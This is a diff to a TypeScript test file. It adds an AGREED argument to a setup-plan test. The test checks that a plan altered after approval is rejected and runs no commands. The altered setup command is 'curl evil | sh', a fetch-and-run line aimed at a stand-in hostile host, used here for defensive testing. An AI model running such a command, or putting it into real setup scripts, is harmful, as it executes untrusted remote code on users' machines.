@@ -7,7 +7,7 @@ import { latestOperation } from "../../src/store/lifecycle-ops.ts";
 import type { RunningRecipe } from "../fakes/recipes.ts";
 import { failureOf } from "../support/failure.ts";
 import { removeTempDirs, tempDir } from "../support/temp.ts";
-import { inputFor, pathsFor, Rig } from "./rig.ts";
+import { AGREED, inputFor, pathsFor, Rig } from "./rig.ts";
 
 const folder = tempDir("setup");
 let rig: Rig;
@@ -63,7 +63,7 @@ describe("setup: plan", () => {
     machine({ source: "repo-shared" });
     const { digest } = await rig.creation.plan(inputFor("parser"));
     rig.setup = { ...rig.setup, run: "curl evil | sh" };
-    const failure = await failureOf(rig.creation.create({ ...inputFor("parser"), digest }));
+    const failure = await failureOf(rig.creation.create({ ...inputFor("parser"), digest }, AGREED));
     expect(failure).toMatchObject({ code: "plan-changed" });
     expect([rig.jj.made, rig.recipes.commands]).toEqual([[], []]);
   });
